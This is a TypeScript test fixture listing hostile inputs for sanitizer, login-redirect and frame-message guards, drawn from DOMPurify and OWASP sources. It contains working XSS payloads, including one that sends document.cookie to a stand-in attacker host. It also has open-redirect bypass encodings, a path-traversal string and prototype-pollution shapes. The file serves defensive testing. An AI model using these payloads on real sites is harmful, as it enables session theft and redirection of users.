/**
 * Hostile input shared by the unit tests of the guards and the browser tests that meet them in
 * a real page (issue 10 item 4). Script payloads call alert() or reach evil.example.com, so a
 * browser test proves they never ran by seeing no dialog and no request to that host.
 */

/** Rich text that must lose every script, handler and dangerous link (DOMPurify's fixtures, OWASP's cheat sheet). */
export const HTML_PAYLOADS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<iframe src="https://evil.example.com"></iframe>',
  '<form action="https://evil.example.com"><input name=a></form>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="//evil.example.com">x</a>',
  '<object data="javascript:alert(1)"></object>',
  '<body onload=alert(1)>',
  '<img src="x" onerror="fetch(\'https://evil.example.com?c=\'+document.cookie)">',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example.com/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example.com/x.css">',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<template><script>alert(1)</script></template>',
  '<div onmouseover="alert(1)" style="width:100%;height:100%">hover</div>',
  '"><img src=x onerror=alert(1)>',
  '<isindex action="javascript:alert(1)" type=submit>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<a href="https://evil.example.com" target="_self">x</a>',
];

/** `?redirect=` values that must land on the home page after login, never elsewhere. */
export const REDIRECT_PAYLOADS: readonly [name: string, value: string][] = [
  ['absolute URL', 'https://evil.example.com/'],
  ['scheme-relative', '//evil.example.com'],
  ['triple slash', '///evil.example.com'],
  ['backslash', '/\\evil.example.com'],
  ['backslash first', '\\\\evil.example.com'],
  ['encoded slash', '/%2Fevil.example.com'],
  ['double-encoded slash', '/%252Fevil.example.com'],
  ['encoded backslash', '/%5Cevil.example.com'],
  ['javascript scheme', 'javascript:alert(1)'],
  ['encoded javascript scheme', 'javascript%3Aalert(1)'],
  ['data URL', 'data:text/html,<script>alert(1)</script>'],
  ['scheme after slash', '/javascript:alert(1)'],
  ['tab in the middle', '/\t/evil.example.com'],
  ['encoded newline', '/%0A/evil.example.com'],
  ['encoded null', '/home%00.evil'],
  ['leading space', ' /home'],
  ['relative path', 'iservice/cpgl'],
  ['dot path', '../etc/passwd'],
  ['malformed escape', '/%E0%A4%A'],
  ['endless encoding', '/%2525252525252F'],
  ['line separator', '/\u2028evil'],
  ['back to the login', '/login?redirect=/'],
  ['back to the lock screen', '/locking'],
  ['empty', ''],
  ['too long', `/${'a'.repeat(3000)}`],
];

/**
 * What a window of the right origin (the robot frame) may still send wrong: shapes the protocol
 * does not have, and links that leave the site or run script.
 */
export const ROBOT_PAYLOADS: readonly unknown[] = [
  { type: 'link', path: 'javascript:alert(1)' },
  { type: 'link', path: '//evil.example.com' },
  { type: 'link', path: 'https://evil.example.com/' },
  { type: 'link', path: '/\\evil.example.com' },
  { type: 'link', path: '/%2F%2Fevil.example.com' },
  { type: 'link', path: '/locking' },
  { type: 'link', path: `/${'a'.repeat(3000)}` },
  { type: 'link', path: '/Settings/PersonalCenter', extra: 'x' },
  { type: 'link', path: 42 },
  { type: 'login', then: 'https://evil.example.com' },
  { type: 'human', url: 'javascript:alert(1)' },
  { type: '__proto__' },
  { type: 'constructor' },
  { type: 'toString' },
  'login',
  '{"type":"login"}',
  ['login'],
  null,
  42,
];
